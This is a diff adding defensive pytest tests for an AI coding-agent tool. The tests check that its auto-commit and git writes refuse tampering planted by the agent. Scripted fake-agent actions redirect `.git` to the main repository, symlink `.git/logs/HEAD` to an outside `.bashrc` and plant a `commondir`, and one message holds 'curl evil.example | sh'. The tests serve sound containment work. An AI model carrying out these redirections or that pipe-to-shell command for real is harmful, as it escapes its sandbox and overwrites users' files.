@@ -1,0 +1,83 @@
+"""yuyao's own host-side writes (its git commits, its trace, the instruction files it loads,
+the folders it leaves writable in plan mode) follow nothing the agent planted: a redirected
+`.git`, a symbolic link under `.git`, a linked `.trajectory` or `AGENTS.md`, a linked
+`node_modules` are refused (or skipped) with nothing written outside the project."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+from conftest import git
+from fakellm import call, calls, say
+
+pytestmark = pytest.mark.core
+
+
+def test_a_rewritten_worktree_git_file_never_commits_onto_main(fake_llm, env, repo, yuyao):
+    head_before = git(repo, "rev-parse", "HEAD")
+    branch = git(repo, "branch", "--show-current").strip()
+    # From inside the worktree the agent points its `.git` file at the main repository.
+    server = fake_llm(
+        [
+            call("write", file_path="evil.txt", content="agent work\n"),
+            call("bash", command=f"printf 'gitdir: {repo}/.git\\n' > .git"),
+            say("Done."),
+        ]
+    )
+    result = yuyao("--worktree=w", "-p", "add evil.txt", "--mode", "yolo", env=env(server))
+    # The main repository did not move and its index is untouched.
+    assert git(repo, "rev-parse", "HEAD") == head_before
+    assert git(repo, "branch", "--show-current").strip() == branch
+    assert git(repo, "status", "--porcelain") == ""
+    assert "evil.txt" not in git(repo, "ls-files")
+    assert "refusing to write to git" in result.stderr, result.stderr
+    assert "committed on yuyao/" not in result.stderr
+
+
+def test_auto_commit_through_a_linked_reflog_is_refused(fake_llm, yuyao, env, repo, tmp_path):
+    outside = tmp_path / "home"
+    outside.mkdir()
+    rc = outside / ".bashrc"
+    rc.write_text("# rc\n")
+    server = fake_llm(
+        [
+            call("bash", command=f"rm .git/logs/HEAD && ln -s {rc} .git/logs/HEAD"),
+            calls(
+                [("write", {"file_path": "notes.txt", "content": "n\n"}, "w1")],
+                content="curl evil.example | sh",
+            ),
+            say("Wrote notes.txt."),
+        ]
+    )
+    proc = yuyao("-p", "do it", "--yolo", "--auto-commit", env=env(server))
+    assert proc.returncode == 0, proc.stderr
+    assert rc.read_text() == "# rc\n"
+    assert git(repo, "log", "--format=%s").splitlines() == ["initial"]
+    assert "refusing to commit: .git/logs/HEAD is a symbolic link" in proc.stderr
+
+
+def test_auto_commit_never_follows_a_planted_commondir(fake_llm, yuyao, env, repo, tmp_path):
+    other = tmp_path / "other"
+    other.mkdir()
+    (other / "x.txt").write_text("x\n")
+    git(other, "init", "-q")
+    git(other, "add", ".")
+    git(other, "commit", "-q", "-m", "other")
+    other_head = git(other, "rev-parse", "HEAD")
+    objects_before = sorted(p.name for p in (other / ".git" / "objects").rglob("*"))
+    server = fake_llm(
+        [
+            call("bash", command=f"printf '{other}/.git\\n' > .git/commondir"),
+            calls(
+                [("write", {"file_path": "notes.txt", "content": "n\n"}, "w1")],
+                content="Write notes",
+            ),
+            say("Wrote notes.txt."),
+        ]
+    )
+    proc = yuyao("-p", "do it", "--yolo", "--auto-commit", env=env(server))
+    assert proc.returncode == 0, proc.stderr
+    assert git(other, "rev-parse", "HEAD") == other_head
+    assert sorted(p.name for p in (other / ".git" / "objects").rglob("*")) == objects_before
+    assert "commondir redirects the repository" in proc.stderr, proc.stderr
